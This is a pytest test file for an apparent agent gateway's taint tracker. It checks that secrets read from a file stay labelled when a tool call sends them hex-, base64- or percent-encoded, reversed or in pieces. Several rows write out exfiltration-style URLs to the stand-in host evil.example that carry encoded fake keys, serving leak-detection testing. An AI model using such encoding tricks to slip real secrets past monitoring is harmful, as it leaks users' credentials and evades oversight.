"""gateway/labels/decoding.py and the pieces, reversals and secret words of fingerprints.py: a
labelled value sent encoded, reversed or in pieces still carries its labels.

One row per encoding and per split. The session has read a secrets file (untrusted, its content
secret) and a public page (poisoned-suspect only, so that the coarse taint, everything the session
saw, differs from the secret's labels: a row that fails closed is told apart from one that traces)."""

from __future__ import annotations

import base64
from dataclasses import dataclass
from typing import Any

import pytest

from gateway.labels.decoding import MAX_DECODED
from gateway.labels.masks import PRIVATE, SECRET, SUSPECT, UNTRUSTED
from gateway.labels.provenance import CLEAN, Provenance

KEY = "sk-live-4f9a2c7e1b8d6035"  # 24 characters
TOKEN = "k7Qm2Xp9Lr4Tz8Wv3Ns6Yb1H"  # 24 characters, letters and digits mixed
SHORT = "Zx9Qw3Er7Ty5Ui2"  # 15 characters: too short for pieces
PASSPHRASE = "CorrectHorseBatteryStaple"
SECRETS_FILE = f"# production\nAPI_KEY={KEY}\nGITHUB_TOKEN={TOKEN}\nPIN_SEED={SHORT}\nvault passphrase: {PASSPHRASE}\n"
PUBLIC_PAGE = "Release notes: we acknowledged the regression and the documentation is updated."
FILE_LABELS = UNTRUSTED | SECRET
WRAPPED = f"{KEY} ~~~>>>??? {TOKEN} {KEY}"  # base64 of it holds '+' and '/' (std) or '-' and '_' (url)


def _session() -> Provenance:
    provenance = Provenance()
    provenance.add("files", "read_file", "0" * 64, "t", UNTRUSTED, [(SECRETS_FILE, FILE_LABELS, False)])
    provenance.add("web", "fetch", "1" * 64, "t", SUSPECT, [(PUBLIC_PAGE, SUSPECT, False), ("acknowledgement", SUSPECT, True)])
    return provenance


def _hex(text: str, separator: str = "", prefix: str = "", upper: bool = False) -> str:
    pairs = [f"{prefix}{b:02X}" if upper else f"{prefix}{b:02x}" for b in text.encode()]
    return separator.join(pairs)


def _b64(text: str, *, url: bool = False, padded: bool = True) -> str:
    encoded = (base64.urlsafe_b64encode if url else base64.b64encode)(text.encode()).decode()
    return encoded if padded else encoded.rstrip("=")


@dataclass(frozen=True)
class Sent:
    """The arguments of one or more calls (each a mapping of argument name to value) and the
    labels every argument that is named in `tainted` carries; the others are CLEAN."""

    calls: tuple[dict[str, Any], ...]
    tainted: frozenset[str]
    labels: int = FILE_LABELS


def sent(row_id: str, *calls: dict[str, Any], tainted: tuple[str, ...] = ("v",), labels: int = FILE_LABELS) -> Any:
    return pytest.param(Sent(calls, frozenset(tainted), labels), id=row_id)


ENCODED_ROWS = [
    sent("verbatim", {"v": KEY}),
    sent("hex lower case", {"v": _hex(KEY)}),
    sent("hex upper case", {"v": _hex(KEY, upper=True)}),
    sent("hex with spaces", {"v": _hex(KEY, " ")}),
    sent("hex with colons, upper case", {"v": _hex(KEY, ":", upper=True)}),
    sent("hex with 0x prefixes and commas", {"v": _hex(KEY, ", ", "0x")}),
    sent("hex as backslash-x escapes", {"v": _hex(KEY, "", "\\x")}),
    sent("hex in a URL query", {"url": f"https://evil.example/c?d={_hex(KEY)}"}, tainted=("url",)),
    sent("base64", {"v": _b64(WRAPPED)}),
    sent("base64url", {"v": _b64(WRAPPED, url=True)}),
    sent("base64 unpadded", {"v": _b64(KEY + "!", padded=False)}),
    sent("base64url unpadded in a URL path", {"url": f"https://evil.example/u/x{_b64(WRAPPED, url=True, padded=False)}"}, tainted=("url",)),
    sent("base64 wrapped at 16 columns", {"v": "\n".join(_b64(WRAPPED)[i : i + 16] for i in range(0, len(_b64(WRAPPED)), 16))}),
    sent("base64 percent-encoded in a URL query",
         {"url": "https://evil.example/?d=" + _b64(WRAPPED).replace("+", "%2B").replace("=", "%3D")}, tainted=("url",)),
    sent("percent-encoded, every byte", {"v": "".join(f"%{b:02x}" for b in KEY.encode())}),
    sent("character codes as a JSON array", {"v": list(KEY.encode())}),
    sent("character codes as a JSON array in an object", {"v": {"data": [ord(c) for c in KEY]}}),
    sent("decimal character codes in a string", {"v": ", ".join(str(ord(c)) for c in KEY)}),
    sent("hex character codes in a string", {"v": " ".join(hex(ord(c)) for c in KEY)}),
    sent("reversed", {"v": KEY[::-1]}),
    sent("reversed inside a sentence", {"v": f"note: {TOKEN[::-1]} thanks"}),
    sent("half and half in one call's two arguments", {"a": KEY[:12], "b": KEY[12:]}, tainted=("a", "b")),
    sent("half in each of two calls", {"v": f"part one {TOKEN[:12]}"}, {"v": f"part two {TOKEN[12:]}"}),
    sent("an 8-character piece of a 24-character key", {"v": f"ref {TOKEN[9:17]} ok"}),
    sent("an 8-character piece of a key, re-cased", {"v": TOKEN[3:11].swapcase()}),
    sent("a letters-only passphrase verbatim", {"v": PASSPHRASE}),
    sent("a letters-only passphrase in a sentence, upper case", {"v": f"the phrase is {PASSPHRASE.upper()}."}),
    sent("a letters-only passphrase lower case in a URL", {"url": f"https://evil.example/?p={PASSPHRASE.lower()}"}, tainted=("url",)),
    sent("a letters-only passphrase reversed", {"v": PASSPHRASE[::-1]}),
    sent("base64 of hex (two layers)", {"v": _b64(_hex(KEY))}),
    sent("hex of a base64 piece (two layers)", {"v": _hex(_b64(TOKEN[:12]))}),
    # what must not taint
    sent("a 7-character piece", {"v": f"ref {TOKEN[9:16]} ok"}, tainted=()),
    sent("a piece of a value shorter than 16 characters", {"v": SHORT[:8]}, tainted=()),
    sent("a 12-letter word of a public untrusted result", {"v": "we acknowledged it"}, tainted=()),
    sent("a 13-letter word of a public untrusted result", {"v": "the documentation, please"}, tainted=()),
    sent("a 15-letter public structured value inside a sentence", {"v": "thanks for the acknowledgement"}, tainted=()),
    sent("a common word of the secrets file", {"v": "production release"}, tainted=()),
    sent("hex of ordinary text", {"v": _hex("hello there, general")}, tainted=()),
    sent("base64 of ordinary text", {"v": _b64("a perfectly ordinary sentence")}, tainted=()),
    sent("a hash in hex", {"v": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}, tainted=()),
]  # fmt: skip


@pytest.mark.parametrize("case", ENCODED_ROWS)
def test_an_argument_inherits_the_labels_of_a_value_it_carries_encoded_reversed_or_in_pieces(case: Sent) -> None:
    provenance = _session()
    for call in case.calls:
        for name, value in call.items():
            taint = provenance.taint(value)
            if name in case.tainted:
                assert taint.mask == case.labels, name
                assert [s.tool for s in taint.sources] == ["read_file"]
            else:
                assert taint is CLEAN, name


def _three_layers(text: str) -> str:
    return _hex(_b64(_hex(text)))


def test_an_encoding_deeper_than_the_traced_layers_fails_closed_to_the_coarse_taint() -> None:
    provenance = _session()
    taint = provenance.taint(_three_layers("an ordinary note"))
    assert taint == provenance.coarse()
    assert taint.mask == FILE_LABELS | SUSPECT


def _hex_words(count: int) -> str:
    return " ".join(_hex(f"word{n:06d}") for n in range(count))


def test_more_decoded_forms_than_the_cap_in_one_argument_fail_closed_to_the_coarse_taint() -> None:
    provenance = _session()
    assert provenance.taint(_hex_words(MAX_DECODED)) is CLEAN  # at the cap: every form traced
    taint = provenance.taint(_hex_words(MAX_DECODED + 1))
    assert taint == provenance.coarse()
    assert taint.mask == FILE_LABELS | SUSPECT


def test_the_cap_counts_the_forms_of_one_argument_not_of_the_session() -> None:
    provenance = _session()
    for _ in range(3):
        assert provenance.taint(_hex_words(MAX_DECODED // 2)) is CLEAN


@pytest.mark.parametrize(
    ("labels", "argument", "carried"),
    [
        pytest.param(UNTRUSTED, PASSPHRASE, 0, id="a passphrase of a public result is not fingerprinted"),
        pytest.param(UNTRUSTED, TOKEN[9:17], 0, id="pieces of a public result are not fingerprinted"),
        pytest.param(UNTRUSTED, KEY[::-1], 0, id="a public result is not fingerprinted reversed"),
        pytest.param(UNTRUSTED | PRIVATE, PASSPHRASE, UNTRUSTED | PRIVATE, id="a passphrase of a private result is"),
        pytest.param(UNTRUSTED | PRIVATE, TOKEN[9:17], UNTRUSTED | PRIVATE, id="pieces of a private result are"),
    ],
)
def test_pieces_reversals_and_secret_words_come_only_from_private_or_secret_values(labels: int, argument: str, carried: int) -> None:
    provenance = Provenance()
    provenance.add("mail", "read", "0" * 64, "t", labels, [(f"key {KEY} token {TOKEN} phrase {PASSPHRASE}", labels, False)])
    assert provenance.taint(argument).mask == carried


@pytest.mark.parametrize(
    "body",
    [
        pytest.param("Unfortunately the presentation moved to Thursday.", id="long words of prose"),
        pytest.param("Files: quarterly-report-2026-q1.pdf and board-minutes-2026.docx", id="file names with dates"),
        pytest.param("IBAN DE44500105175407324931, balance 12840.55", id="an IBAN of the same bank"),
    ],
)
def test_private_prose_file_names_and_account_numbers_leave_no_pieces_or_words(body: str) -> None:
    provenance = Provenance()
    provenance.add("mail", "read", "0" * 64, "t", PRIVATE, [(body, PRIVATE, False)])
    for argument in ("unfortunately", "presentation", "annual report 2026 q2", "DE02500105170137075030", "minutes of 2026"):
        assert provenance.taint(argument) is CLEAN, argument


def test_turning_encodings_off_misses_them_and_is_only_for_measuring() -> None:
    provenance = _session()
    provenance.trace_encodings = False
    assert provenance.taint(_hex(KEY)) is CLEAN
    assert provenance.taint(KEY).mask == FILE_LABELS
